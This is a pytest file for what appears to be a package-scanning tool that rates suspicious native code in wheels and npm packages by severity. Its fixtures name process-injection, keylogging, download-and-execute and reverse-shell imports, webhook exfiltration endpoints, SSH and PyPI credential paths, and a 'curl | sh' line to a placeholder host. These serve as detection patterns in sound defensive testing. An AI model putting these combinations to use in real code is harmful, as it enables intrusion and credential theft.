"""The same functions and strings weigh by the file that holds them."""

import pytest
from native_samples import assemble

from ostiary.checks.catalogue import CATALOGUE
from ostiary.core.facts.release import FileForm
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.formats.contents import Contents, FileRow, Kind
from ostiary.formats.declared import DeclaredPlatforms
from ostiary.formats.native.found import NativeCode
from ostiary.formats.native.read import read_native

BY_ID = {one.id: one for one in CATALOGUE}
INJECTS = "import WriteProcessMemory KERNEL32.dll\nimport CreateRemoteThread KERNEL32.dll\n"
MANY = "\n".join(f"import System{at} KERNEL32.dll" for at in range(100)) + "\n"
KEYS = "import SetWindowsHookExW USER32.dll\nimport GetAsyncKeyState USER32.dll\n"
RUNS = "import URLDownloadToFileA urlmon.dll\nimport WinExec KERNEL32.dll\n"
SHELL = "import connect\nimport dup2\nimport execve\n"
MODULE = "export PyInit_fast\n"


def hits(
    check: str, text: str, path: str = "p/fast.pyd", form: FileForm = FileForm.WHEEL
) -> list[Hit]:
    contents = Contents("p-1.0-py3-none-any.whl", form, "", 1, ())
    code = NativeCode(contents, (read_native(path, assemble(text)),))
    return [one for one in BY_ID[check].run(code) if isinstance(one, Hit)]


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        (f"pe\n{MODULE}{INJECTS}", Severity.MEDIUM),
        (f"pe\n{MODULE}{INJECTS}{MANY}", Severity.LOW),
        (f"pe executable\n{INJECTS}", Severity.LOW),
        (f"pe executable\n{INJECTS}import InternetOpenA WININET.dll", Severity.MEDIUM),
        (f"pe\n{MODULE}{RUNS}", Severity.HIGH),
        (f"pe\n{MODULE}{RUNS}{MANY}", Severity.MEDIUM),
        (f"pe\n{MODULE}{KEYS}", Severity.LOW),
        (f"pe\n{MODULE}{KEYS}{MANY}", None),
        (f"pe\n{MODULE}{KEYS}import #4 ws2_32.dll", Severity.MEDIUM),
        (f"elf\n{MODULE}{SHELL}", Severity.MEDIUM),
        (f"elf\n{MODULE}{SHELL}string /bin/sh -i", Severity.HIGH),
        (f"elf\n{MODULE}{SHELL}{MANY}", None),
        (f"elf\n{MODULE}import connect\nimport execve", Severity.LOW),
        (f"elf executable\n{SHELL}", None),
        (f"elf\n{MODULE}import connect\nimport ptrace", Severity.LOW),
    ],
)
def test_functions(text: str, severity: Severity | None) -> None:
    found = hits("native-capabilities", text)
    assert [one.severity for one in found] == ([] if severity is None else [severity])


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("string https://discord.com/api/webhooks/0/x", Severity.MEDIUM),
        ("string https://x.ngrok.io/", Severity.LOW),
        ("string https://webhook.site/x\nstring .ssh/id_rsa\nstring .pypirc", Severity.HIGH),
        ("import connect\nstring .ssh/id_rsa\nstring .pypirc", Severity.MEDIUM),
        ("string .ssh/id_rsa\nstring .pypirc", None),
        ("import connect\nstring .ssh/id_rsa\nstring .ssh/id_ed25519", None),
        ("string curl -s https://example.invalid/x | sh", Severity.MEDIUM),
        ("string curl -s https://example.invalid/x -o x", None),
    ],
)
def test_strings(text: str, severity: Severity | None) -> None:
    found = hits("native-strings", f"elf\n{MODULE}{text}")
    assert [one.severity for one in found] == ([] if severity is None else [severity])


def test_strings_of_large_files_are_low() -> None:
    large = f"elf executable\nsection .data {33 << 20} plain\nstring https://webhook.site/x"
    assert [one.severity for one in hits("native-strings", large, "p/tool")] == [Severity.LOW]


@pytest.mark.parametrize(
    ("text", "path", "severity"),
    [
        (f"pe\n{MODULE}embed pe", "p/fast.pyd", Severity.MEDIUM),
        ("pe executable\nembed pe", "p/setup.exe", Severity.LOW),
        (f"elf\n{MODULE}embed pe", "p/fast.abi3.so", Severity.LOW),
        (f"elf\n{MODULE}append elf", "p/fast.abi3.so", Severity.MEDIUM),
    ],
)
def test_payloads(text: str, path: str, severity: Severity) -> None:
    assert [one.severity for one in hits("native-payload", text, path)] == [severity]


def test_many_modules_without_entry_are_one_finding() -> None:
    contents = Contents("p-1.0-py3-none-any.whl", FileForm.WHEEL, "", 1, ())
    data = assemble("elf\nexport run")
    files = tuple(read_native(f"p/m{at}.abi3.so", data) for at in range(9))
    (hit,) = BY_ID["module-without-init"].run(NativeCode(contents, files))
    assert isinstance(hit, Hit)
    assert hit.message.startswith("9 files")


def test_programs_are_declared_where_it_is_no_wheel() -> None:
    assert hits("undeclared-executable", "elf executable", "p/tool")
    assert not hits("undeclared-executable", "elf executable", "p/bin/tool")
    assert not hits("undeclared-executable", "elf executable", "p/tool", FileForm.SDIST)


@pytest.mark.parametrize(
    "check", [one for one in CATALOGUE if one.reads is NativeCode], ids=lambda one: one.id
)
def test_at_most_medium_unless_it_is_conclusive(check: object) -> None:
    assert getattr(check, "severity", Severity.HIGH) <= Severity.MEDIUM
    assert getattr(check, "remedy", "").endswith(".")


@pytest.mark.parametrize(
    ("paths", "form", "severity"),
    [
        (("p/crypt.node", "p/crypt-arm64.node"), FileForm.WHEEL, Severity.LOW),
        (("p/crypt.node", "p/crypt-x64.node"), FileForm.WHEEL, Severity.MEDIUM),  # it is not so
        (("p/crypt-arm64.node",), FileForm.WHEEL, Severity.MEDIUM),
        (("p/crypt.dll", "p/crypt-arm64.dll"), FileForm.WHEEL, Severity.MEDIUM),
        (("p/crypt.node", "p/crypt-arm64.node"), FileForm.NPM, Severity.MEDIUM),
    ],
)
def test_addons_for_several_kinds_of_machine(
    paths: tuple[str, ...], form: FileForm, severity: Severity
) -> None:
    machines = ("PE x86-64 DLL", "PE AArch64 DLL")
    rows = tuple(FileRow(one, "00", 1, Kind.NATIVE, detail=machines["-" in one]) for one in paths)
    contents = Contents("p-1.0-py3-none-any.whl", form, "", 1, rows)
    found = BY_ID["native-code"].run(DeclaredPlatforms(contents))
    assert {one.severity for one in found if isinstance(one, Hit)} == {severity}
